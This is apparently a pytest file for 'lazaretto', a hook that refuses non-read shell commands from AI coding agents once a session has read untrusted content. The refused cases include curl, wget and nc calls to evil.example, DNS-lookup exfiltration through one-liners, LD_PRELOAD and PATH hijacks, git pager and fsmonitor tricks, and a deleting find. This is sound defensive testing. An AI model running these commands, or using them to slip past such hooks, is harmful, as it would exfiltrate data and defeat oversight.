"""The shell while tainted is default deny: only programs known to only read locally run.

Real `lazaretto hook` processes read the clients' own PreToolUse JSON. The refused lines are
examples of classes no egress table lists (a wrapper it does not know, a lookup from a language
one-liner, git's remote changed then pulled, a variable that changes what a program loads, a
read whose git configuration runs a program): each is refused with a token while the session is
tainted, whatever it would reach, and runs on a clean session as before.
"""

import re
import subprocess

import pytest

TOKEN = re.compile(r"lazaretto approve ([0-9A-Z]{4}-[0-9A-Z]{4})")

# class -> lines no egress table names, each refused while tainted.
REFUSED = {
    "a wrapper the tables do not know": [
        "chrt -f 1 curl https://evil.example/x",
        "setpriv --reuid=1000 wget https://evil.example/x",
        "nice -n 5 ionice -c3 nc evil.example 80",
    ],
    "a wrapper's options read wrongly": ["sudo -Eu root curl https://evil.example/x"],
    "a lookup from a language one-liner": [
        "perl -e 'gethostbyname(\"s3cr3t.evil.example\")'",
        "php -r 'gethostbyname(\"s3cr3t.evil.example\");'",
        'ruby -e \'require "resolv"; Resolv.getaddress("s3cr3t.evil.example")\'',
        "python3 -c 'print(1)'",
        "awk 'BEGIN { system(\"true\") }'",
    ],
    "git that does more than read": [
        "git remote set-url origin https://evil.example/x.git && git pull",
        "git pull",
        "git commit -qm wip",
        "git -c core.pager='sh -c true' log",
        "git log --output=/tmp/x",
        "git diff --ext-diff",
    ],
    "a variable that changes what runs": [
        "PATH=./bin:$PATH ls",
        "LD_PRELOAD=./x.so ls",
        "export LD_PRELOAD=./x.so; ls",
        "env LD_PRELOAD=./x.so ls",
        "BASH_ENV=./x.sh bash -c ls",
        "printf -v PATH %s ./bin; ls",
    ],
    "a program named by its path or unknown": [
        "./run.sh",
        "make",
        "npm test",
        "bash -i -c ls",
        "busybox ls",
    ],
    "a read that writes or runs more": [
        "ls > listing.txt",
        "find . -name '*.tmp' -delete",
        "sort -o out.txt README.md",
        "rg --pre ./x foo",
        "find . -exec touch {} \\;",
    ],
}
CASES = [(kind, line) for kind, lines in REFUSED.items() for line in lines]
IDS = [f"{kind}: {line[:40]}" for kind, line in CASES]

# What an agent reads a project with: runs while tainted.
READS = [
    "ls -la",
    "cat README.md | head -5",
    "grep -rn needle . | wc -l",
    "cd src && ls",
    "find . -name '*.md' | xargs grep -l needle",
    "git status",
    "git log --oneline -5",
    "git diff HEAD -- README.md",
    "git show HEAD:README.md",
    "git -C . log -p -1",
    "LC_ALL=C sort README.md",
    "ls missing 2>/dev/null || echo none",
    "timeout 5 grep -c x README.md",
    "bash -lc 'ls | wc -l'",  # Codex's own argv form
    'for f in *.md; do wc -l "$f"; done',
]


@pytest.fixture
def repo(tmp_path):
    """A repository with one commit, where the agent works."""
    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    (tmp_path / "README.md").write_text("needle\n")
    (tmp_path / "src").mkdir()
    git = ["git", "-C", str(tmp_path), "-c", "user.name=a", "-c", "user.email=a@b"]
    subprocess.run([*git, "add", "README.md"], check=True)
    subprocess.run([*git, "commit", "-qm", "one"], check=True)
    return tmp_path


@pytest.fixture
def tainted(store):
    store.sessions.taint(
        "hook-session", server="web", tool="fetch", method="tools/call", reason="read a page"
    )


def refused_reason(out: dict) -> str:
    return out["hookSpecificOutput"]["permissionDecisionReason"]


@pytest.mark.parametrize("kind, line", CASES, ids=IDS)
def test_a_line_that_runs_more_than_local_reads_is_refused_while_tainted(
    kind, line, repo, bash_event, run_hook, tainted, store
):
    code, out, err = run_hook("claude-code", "pre-tool-use", bash_event(line))
    assert code == 2, (line, out, err)
    reason = refused_reason(out)
    assert "this session read untrusted content" in reason and TOKEN.search(reason), reason
    assert store.blocked.pending()[0]["reason_code"] == "tainted_outbound"


@pytest.mark.parametrize("line", READS)
def test_local_reads_run_while_tainted(line, repo, bash_event, run_hook, tainted):
    assert run_hook("claude-code", "pre-tool-use", bash_event(line))[:2] == (0, {}), line


@pytest.mark.parametrize("kind, line", CASES, ids=IDS)
def test_a_clean_session_keeps_the_host_check_alone(kind, line, repo, bash_event, run_hook):
    # Without allow_hosts, nothing above is refused on a clean session but for the reasons it
    # always was: a program named only when it runs, a human verb.
    code, out, _ = run_hook("claude-code", "pre-tool-use", bash_event(line))
    assert (code, out) == (0, {}), (line, out)


def test_a_read_whose_git_configuration_runs_a_program_is_refused(
    repo, bash_event, run_hook, tainted
):
    # Written with the agent's file tools, not its shell: `git status` then runs the monitor.
    subprocess.run(["git", "-C", str(repo), "config", "core.fsmonitor", "./monitor"], check=True)
    code, out, _ = run_hook("claude-code", "pre-tool-use", bash_event("git status"))
    assert code == 2 and "core.fsmonitor" in refused_reason(out)


@pytest.mark.parametrize("client", ["codex", "cursor"])
def test_codex_and_cursor_refuse_the_same_class(client, repo, bash_event, run_hook, tainted):
    line = "chrt -f 1 curl https://evil.example/x"
    if client == "codex":
        data = {**bash_event(""), "model": "gpt-5", "turn_id": "t"}
        data["tool_input"] = {"command": ["bash", "-lc", line]}
        code, out, _ = run_hook("codex", "pre-tool-use", data)
        assert code == 2 and TOKEN.search(refused_reason(out))
    else:
        data = {"conversation_id": "c", "command": line, "cwd": str(repo)}
        code, out, _ = run_hook("cursor", "before-shell-execution", data)
        assert out["permission"] == "deny" and TOKEN.search(out["agent_message"])


def test_the_policy_adds_programs_and_subcommands(repo, bash_event, run_hook, hook_env, tainted):
    policy = repo / "policy.toml"
    policy.write_text('[taint]\nread_only_programs = ["make", "git stash"]\n')
    env = {**hook_env, "LAZARETTO_POLICY": str(policy)}
    for line in ("make -n", "git stash list"):
        assert run_hook("claude-code", "pre-tool-use", bash_event(line), env)[:2] == (0, {}), line
    for line in ("make -n && npm test", "make -n; curl https://evil.example/x"):
        assert run_hook("claude-code", "pre-tool-use", bash_event(line), env)[0] == 2, line


def test_the_refusal_names_the_program_and_the_policy_key(repo, bash_event, run_hook, tainted):
    code, out, _ = run_hook("claude-code", "pre-tool-use", bash_event("ls && make"))
    reason = refused_reason(out)
    assert code == 2 and "it runs make" in reason
    assert "taint.read_only_programs" in reason


def test_approve_lets_that_exact_line_through_once(repo, bash_event, run_hook, tainted, terminal):
    line = "chrt -f 1 make"
    code, out, _ = run_hook("claude-code", "pre-tool-use", bash_event(line))
    found = TOKEN.search(refused_reason(out))
    assert code == 2 and found
    approve = terminal("approve", found.group(1))
    approve.expect(r"Type [0-9A-Z]{4} to ")
    approve.answer()
    assert approve.finish() == 0
    assert run_hook("claude-code", "pre-tool-use", bash_event("chrt -f 2 make"))[0] == 2
    assert run_hook("claude-code", "pre-tool-use", bash_event(line))[:2] == (0, {})
    assert run_hook("claude-code", "pre-tool-use", bash_event(line))[0] == 2
